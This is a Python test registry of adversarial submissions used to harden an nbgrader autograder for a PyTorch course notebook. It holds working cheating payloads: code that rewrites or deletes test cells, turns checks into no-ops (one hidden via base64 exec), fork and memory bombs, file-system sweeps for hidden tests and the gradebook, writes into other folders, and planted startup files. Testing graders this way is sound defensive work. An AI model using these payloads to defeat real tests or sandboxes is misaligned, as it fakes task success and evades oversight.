"""Adversarial submissions of 06_nn_module: a registry for tests/test_adversarial.py.

Each :class:`Attack` turns the student version (release) into a cheating
submission. Attacks that need a score start from *wrong* answers (the first
recorded mistake of each exercise, which scores 0 honestly) and add the cheat,
so any point they earn comes from the cheat, never from a correct answer.
They also drop the lesson's demo cells (a student may delete them; it keeps
the suite fast) unless the attack is about the notebook's structure.

``expect`` is what must happen: ``"zero"`` (total score no higher than the
untouched release, which scores 0), ``"flagged"`` (the integrity review or a
recorded crash flags it) or ``"either"``. Attacks print ``REPORT{json}`` lines
saying what they managed (e.g. what they could read), for attack-specific checks.
"""

from __future__ import annotations

import base64
import dataclasses
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

import proof

TOPIC = "06_nn_module"
FIRST_EXERCISE = "conv2d_param_count"

#: Replaces every course check with a no-op: every test then passes.
NOOP_CHECKS = ("check = check_equal = check_close = check_shape = check_tensor = check_dtype = "
               "check_raises = lambda *args, **kwargs: None")


@dataclasses.dataclass(frozen=True)
class Attack:
    """One cheating submission.

    name : slug, used as the nbgrader student id.
    description : one line for the report.
    build : ``build(release_nb, answers) -> nb``; ``answers`` are the correct answers
        (:func:`proof.solution_answers`), which an attack must not just use.
    expect : "zero", "flagged" or "either".
    plant : optional ``plant(submitted_folder, course_root)`` adding files next to the notebook.
    """

    name: str
    description: str
    build: Callable
    expect: str = "either"
    plant: Callable | None = None


def wrong_answers(answers: dict[str, str]) -> dict[str, str]:
    """The first recorded mistake of each exercise in ``answers`` (each scores 0 on its own)."""
    first = {}
    for fixture in proof.fixtures(TOPIC):
        if fixture.kind == "mistake":
            first.setdefault(fixture.exercise, fixture.path.read_text())
    missing = set(answers) - set(first)
    if missing:
        raise ValueError(f"no recorded mistake for {sorted(missing)}: add one under tests/submissions/")
    return {exercise: first[exercise] for exercise in answers}


def _lean(nb):
    """The notebook without the lesson's demo cells (code cells with no nbgrader metadata)."""
    nb = nbformat.from_dict(nb)
    nb.cells = [c for c in nb.cells if not (c.cell_type == "code" and "nbgrader" not in c.metadata)]
    return nb


def _grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _is_test(cell):
    return bool(cell.metadata.get("nbgrader", {}).get("grade"))


def _payload(code: str, *, wrong=True):
    """An attack that puts ``code`` at the top of the first answer cell, over wrong answers."""
    def build(release, answers):
        given = wrong_answers(answers) if wrong else {}
        given[FIRST_EXERCISE] = code + "\n\n" + given.get(FIRST_EXERCISE, "")
        return proof.fill_in(_lean(release), given)
    return build


def _edit(change, lean=True):
    """An attack that answers wrongly, then applies ``change(nb)`` to the notebook."""
    def build(release, answers):
        nb = proof.fill_in(_lean(release) if lean else release, wrong_answers(answers))
        change(nb)
        return nb
    return build


def _report(expression: str) -> str:
    return f"import json as _json\nprint('REPORT' + _json.dumps({expression}))"


# ------------------------------------------------------------- notebook edits

def _weaken_tests(nb):
    for cell in nb.cells:
        if _is_test(cell):
            cell.source = "print('all tests passed')"


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if not _is_test(c)]


def _add_fake_grade_cell(nb):
    nb.cells.append(new_code_cell("print('bonus')", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus_tests", "locked": True, "points": 100,
        "solution": False, "task": False, "schema_version": 3}}))


def _fake_cells_before_tests(nb):
    index = 0
    while index < len(nb.cells):
        if _is_test(nb.cells[index]):
            nb.cells.insert(index, new_code_cell(NOOP_CHECKS))
            index += 1
        index += 1


def _set_meta(key, value):
    def change(nb):
        for cell in nb.cells:
            if _is_test(cell):
                cell.metadata.nbgrader[key] = value(cell) if callable(value) else value
    return change


def _retype(make):
    def change(nb):
        nb.cells = [make(c.source, metadata=c.metadata) if _is_test(c) else c for c in nb.cells]
    return change


# ------------------------------------------------------------- kernel payloads

def _obfuscated(code: str) -> str:
    encoded = base64.b64encode(code.encode()).decode()
    return f"import base64 as _b\nexec(_b.b64decode({encoded!r}).decode(), globals())"


READ_SECRETS = """
import glob as _glob
_ups = ('..', '../..', '../../..', '../../../..', '/tmp', '/root', '/opt')
_found = {
    'relative_source': _glob.glob('../../../source/*/*.ipynb'),
    'upward_notebooks': [p for up in _ups for depth in ('*', '*/*', '*/*/*')
                         for p in _glob.glob(f'{up}/{depth}.ipynb') if 'source' in p],
    'gradebooks': [p for up in _ups for depth in ('', '*/', '*/*/')
                   for p in _glob.glob(f'{up}/{depth}gradebook.db')],
    'history_has_hidden': any(('BEGIN ' + 'HIDDEN') in str(x) for x in In + _ih),
}
""" + _report("_found")

WRITE_OUTSIDE = """
_written = {}
for _name, _path in {'gradebook': '../../../gradebook.db', 'other_student': '../../solution/06_nn_module/planted.txt',
                     'release': '../../../release/06_nn_module/planted.txt',
                     'source': '../../../source/06_nn_module/planted.txt'}.items():
    try:
        with open(_path, 'a') as _handle:
            _handle.write('planted')
        _written[_name] = 'written'
    except OSError as _err:
        _written[_name] = type(_err).__name__
""" + _report("_written")

NETWORK = """
import socket
_net = {}
for _name, _address in {'internet': ('1.1.1.1', 80), 'dns': ('pypi.org', 443)}.items():
    try:
        socket.create_connection(_address, timeout=3).close()
        _net[_name] = 'connected'
    except OSError as _err:
        _net[_name] = type(_err).__name__
""" + _report("_net")

MEMORY_BOMB = """
import torch as _torch
_hoard = []
while True:
    _hoard.append(_torch.ones(2**27, dtype=_torch.uint8) + 1)   # 128 MiB at a time, touched
"""

FORK_BOMB = """
import os, time
_children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        _children += 1
except OSError as _err:
    pass
""" + _report("{'children': _children}")


HIDDEN_ANYWHERE = """
import os as _os
_mounts = sorted({line.split()[4] for line in open('/proc/self/mountinfo')})
_system = ('/usr', '/etc', '/proc', '/dev', '/sys', '/bin', '/sbin', '/lib', '/lib64')
_prefixes = tuple(p for p in {__import__('sys').prefix, __import__('sys').base_prefix} if p != '/')
_found, _scanned = [], 0
for _top in ['/', *_mounts]:
    for _dir, _subdirs, _files in _os.walk(_top):
        if _dir.startswith(_system) or _dir.startswith(_prefixes) or _dir.startswith('/proc'):
            _subdirs[:] = []
            continue
        for _name in _files:
            _path = _os.path.join(_dir, _name)
            try:
                if _os.path.getsize(_path) > 50 * 2**20:
                    continue
                with open(_path, 'rb') as _handle:
                    _data = _handle.read()
                _scanned += 1
                # text only 06's hidden tests hold (split, so that this cell does not match itself)
                if (b'_reference' + b'_count') in _data or (b'(3, 64, 7' + b', True)') in _data:
                    _found.append(_path)
            except OSError:
                pass
_found = sorted(set(_found))
""" + _report("{'hidden_files': _found, 'scanned': _scanned, 'mounts': _mounts}")

RUN_CELL = """
_ip = get_ipython()
_original_run_cell = _ip.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    if 'check' in raw_cell and 'HIDDEN' not in raw_cell:   # a test cell: run nothing
        raw_cell = 'pass'
    return _original_run_cell(raw_cell, *args, **kwargs)
_ip.run_cell = _run_cell
_ip.should_run_async = lambda *args, **kwargs: False
"""

SELECTIVE_TRANSFORMER = """
def _blank_tests(lines):
    return ['pass\\n'] if any('check_' in line for line in lines) else lines
getattr(get_ipython(), 'input_trans' + 'formers_post').append(_blank_tests)
"""

EVENT_PATCH = """
import torchcourse.grading as _grading
_saved = {}
def _before(info):
    if info.raw_cell and 'check' in info.raw_cell:
        for _name in ('check', 'check_equal', 'check_close', 'check_shape', 'check_tensor', 'check_dtype'):
            _f = getattr(_grading, _name)
            _saved[_name] = _f.__code__
            _f.__code__ = (lambda *args, **kwargs: None).__code__
def _after(result):
    for _name, _code in _saved.items():
        getattr(_grading, _name).__code__ = _code
get_ipython().events.register('pre_run_cell', _before)
get_ipython().events.register('post_run_cell', _after)
"""

COMPUTED_SWAP = """
_noop = (lambda *args, **kwargs: None)
_k = '__co' + 'de__'
for _name in ('check', 'check_equal', 'check_close', 'check_shape', 'check_tensor', 'check_dtype'):
    setattr(globals()[_name], _k, getattr(_noop, _k))
"""

ALIASED_MODULE = """
_sys = __import__('s' + 'ys')
_g = _sys.modules['torchcourse.' + 'grading']
setattr(_g, '_' + 'fail', lambda *args, **kwargs: None)
_CheckFailed = _g.CheckFailed
"""

NAMESPACE_WHOLESALE = """
import __main__ as _m
_noop = lambda *args, **kwargs: None
vars(_m).update({_n: _noop for _n in list(vars(_m)) if _n.startswith('check')})
"""

WRAPPER_COPIES_CODE = """
import functools as _ft
def _wrap(f):
    @_ft.wraps(f)
    def inner(*args, **kwargs):
        return None
    return inner
for _name in ('check', 'check_equal', 'check_close', 'check_shape', 'check_tensor', 'check_dtype'):
    _f = eval(_name)
    _f.__code__ = _wrap(_f).__code__
"""

STARTUP_FILE = ("import torchcourse.grading as g\nprint('REPORT{\"startup\": true}')\n"
                "g._fail = lambda *a, **k: None\n")


def _plant_file(relative: str, text: str):
    def plant(folder: Path, course_root: Path):
        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
        (folder / relative).write_text(text)
    return plant


def _fake_metadata(nb):
    nb.metadata["torchcourse"] = {"kernel_check": {"checked": True, "probes": 9, "findings": []}}
    _fake_cells_before_tests(nb)


def _plant_link(target: str):
    def plant(folder: Path, course_root: Path):
        (folder / Path(target).name).symlink_to(course_root / target)
    return plant


ATTACKS: list[Attack] = [
    # --- the notebook's structure
    Attack("edit_tests", "replaces every test cell by a print (weakened asserts)",
           _edit(_weaken_tests), "zero"),
    Attack("delete_tests", "deletes every test cell", _edit(_delete_tests), "flagged"),
    Attack("add_fake_grade_cell", "adds a passing cell with nbgrader metadata worth 100 points",
           _edit(_add_fake_grade_cell), "flagged"),
    Attack("add_cells_before_tests", "adds a cell before every test that turns the checks into no-ops",
           _edit(_fake_cells_before_tests), "flagged"),
    Attack("meta_grade_false", "marks every test cell as not graded", _edit(_set_meta("grade", False)),
           "flagged"),
    Attack("meta_points", "raises every test cell's points to 100", _edit(_set_meta("points", 100)),
           "zero"),
    Attack("meta_grade_id", "renames every test cell's nbgrader id",
           _edit(_set_meta("grade_id", lambda c: "x_" + c.metadata.nbgrader["grade_id"])), "flagged"),
    Attack("tests_to_markdown", "turns every test cell into a markdown cell", _edit(_retype(new_markdown_cell))),
    Attack("tests_to_raw", "turns every test cell into a raw cell", _edit(_retype(new_raw_cell))),
    # --- monkeypatching
    Attack("rebind_checks", "rebinds check, check_equal, ... to no-ops", _payload(NOOP_CHECKS), "flagged"),
    Attack("patch_grading_module", "patches torchcourse.grading (its _fail and check_* attributes)",
           _payload("import torchcourse.grading as _g\n_g._fail = lambda *a, **k: None\n"
                    "_g.check_equal = lambda *a, **k: None"), "flagged"),
    Attack("patch_check_code", "swaps the code of the checks (check.__code__ = a no-op's)",
           _payload("for _f in (check, check_equal, check_close, check_shape, check_tensor, check_dtype):\n"
                    "    _f.__code__ = (lambda *args, **kwargs: None).__code__"), "flagged"),
    Attack("patch_torch", "patches torch.allclose, torch.testing.assert_close and torch.equal",
           _payload("torch.allclose = lambda *a, **k: True\n"
                    "torch.testing.assert_close = lambda *a, **k: None\n"
                    "torch.equal = lambda *a, **k: True"), "flagged"),
    Attack("patch_numpy", "patches numpy.allclose and numpy.testing", _payload(
        "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None"), "flagged"),
    Attack("patch_builtins", "rebinds isinstance and patches builtins.sum and AssertionError",
           _payload("import builtins\nisinstance = lambda *a: True\nbuiltins.sum = lambda *a, **k: 15\n"
                    "builtins.AssertionError = type('Nope', (Exception,), {})"), "flagged"),
    Attack("exec_base64", "rebinds the checks from a base64 string run by exec",
           _payload(_obfuscated(NOOP_CHECKS)), "flagged"),
    Attack("getattr_builtins", "reaches exec through getattr(__builtins__, 'ex' + 'ec')",
           _payload("getattr(__builtins__, 'ex' + 'ec')(" + repr(NOOP_CHECKS) + ")"), "flagged"),
    # --- hiding tracebacks
    Attack("showtraceback", "replaces get_ipython().showtraceback with a no-op",
           _payload("get_ipython().showtraceback = lambda *a, **k: None")),
    Attack("set_custom_exc", "swallows every exception with set_custom_exc",
           _payload("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")),
    Attack("excepthook", "replaces sys.excepthook", _payload("import sys\nsys.excepthook = lambda *a: None")),
    Attack("input_transformer", "adds an input transformer that blanks every later cell",
           _payload("get_ipython().input_transformers_post.append(lambda lines: [])"), "flagged"),
    Attack("stderr_redirect", "sends stderr to a StringIO", _payload(
        "import io, sys\nsys.stderr = io.StringIO()")),
    # --- stopping the kernel
    Attack("sys_exit", "calls sys.exit(0)", _payload("import sys\nsys.exit(0)")),
    Attack("os_exit", "calls os._exit(0)", _payload("import os\nos._exit(0)")),
    Attack("exit_builtin", "calls exit()", _payload("exit()")),
    Attack("kill_kernel", "kills its own kernel with SIGKILL", _payload("import os\nos.kill(os.getpid(), 9)")),
    # --- resources
    Attack("infinite_loop", "loops forever", _payload("while True:\n    pass")),
    Attack("long_sleep", "sleeps for a day", _payload("import time\ntime.sleep(86400)")),
    Attack("sigint_ignored_loop", "ignores SIGINT, then loops forever",
           _payload("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")),
    Attack("memory_bomb", "allocates memory until something gives", _payload(MEMORY_BOMB)),
    Attack("fork_bomb", "forks until it can't", _payload(FORK_BOMB)),
    Attack("print_flood_big", "prints 300 MB, 1 MB at a time",
           _payload("for _ in range(300):\n    print('x' * 2**20)")),
    Attack("print_flood_small", "prints a million short lines",
           _payload("for _i in range(10**6):\n    print(_i)")),
    # --- the file system and the network
    Attack("read_hidden_tests", "looks for source notebooks, other notebooks, the gradebook and the "
           "input history", _payload(READ_SECRETS), "zero"),
    Attack("write_outside", "writes to the gradebook, another student's folder, the release and source",
           _payload(WRITE_OUTSIDE), "zero"),
    Attack("network", "connects to the internet and resolves a name", _payload(NETWORK), "zero"),
    Attack("symlink_gradebook", "submits a symlink to the course's gradebook",
           _payload(_report("{'gradebook': open('gradebook.db', 'rb').read(16).hex()}")),
           "flagged", plant=_plant_link("gradebook.db")),
    Attack("symlink_source", "submits a symlink to the course's source folder",
           _payload(_report("{'source': __import__('os').listdir('source')}")),
           "flagged", plant=_plant_link("source")),
    Attack("shadow_torch", "submits a torch.py next to the notebook that fakes torch",
           _payload(_report("{'torch': str(torch)}")), "zero",
           plant=lambda folder, root: (folder / "torch.py").write_text(
               "print('REPORT' + __import__('json').dumps({'shadowed': True}))\n"
               "raise SystemExit('the fake torch was imported')\n")),
    Attack("hidden_tests_anywhere", "reads every file it can, on every mount, looking for hidden-test text",
           _payload(HIDDEN_ANYWHERE), "zero"),
    Attack("ipython_startup_file", "submits .ipython/profile_default/startup/00.py, which patches the "
           "checks before any cell runs", _edit(lambda nb: None), "zero",
           plant=_plant_file(".ipython/profile_default/startup/00-patch.py", STARTUP_FILE)),
    Attack("kernel_config_file", "submits .ipython/profile_default/ipython_kernel_config.py with "
           "exec_lines that patch the checks", _edit(lambda nb: None), "zero",
           plant=_plant_file(".ipython/profile_default/ipython_kernel_config.py",
                             "c.InteractiveShellApp.exec_lines = ['import torchcourse.grading as g', "
                             "'g._fail = lambda *a, **k: None']\n")),
    # --- written against the review itself
    Attack("run_cell_replaced", "replaces run_cell (and should_run_async) to skip every test cell",
           _payload(RUN_CELL), "flagged"),
    Attack("selective_transformer", "adds, by a computed attribute name, an input transformer that "
           "blanks only test cells", _payload(SELECTIVE_TRANSFORMER), "flagged"),
    Attack("event_code_swap", "registers IPython events that swap the checks' code during test cells "
           "only and restore it after", _payload(EVENT_PATCH), "flagged"),
    Attack("computed_code_swap", "swaps the checks' __code__ in place, reached through globals() "
           "and a computed attribute name", _payload(COMPUTED_SWAP), "flagged"),
    Attack("aliased_module_patch", "patches torchcourse.grading._fail through sys.modules reached by "
           "a computed module name", _payload(ALIASED_MODULE), "flagged"),
    Attack("namespace_wholesale", "rebinds every check_* name of the notebook at once through "
           "vars(__main__)", _payload(NAMESPACE_WHOLESALE), "flagged"),
    Attack("wrapper_copies_code", "gives each check the code of a functools.wraps wrapper that "
           "returns None", _payload(WRAPPER_COPIES_CODE), "flagged"),
    Attack("fake_review_metadata", "claims a clean runtime check in the notebook's metadata and adds "
           "no-op cells before the tests", _edit(_fake_metadata), "flagged"),
]

assert len({a.name for a in ATTACKS}) == len(ATTACKS), "attack names must be unique"
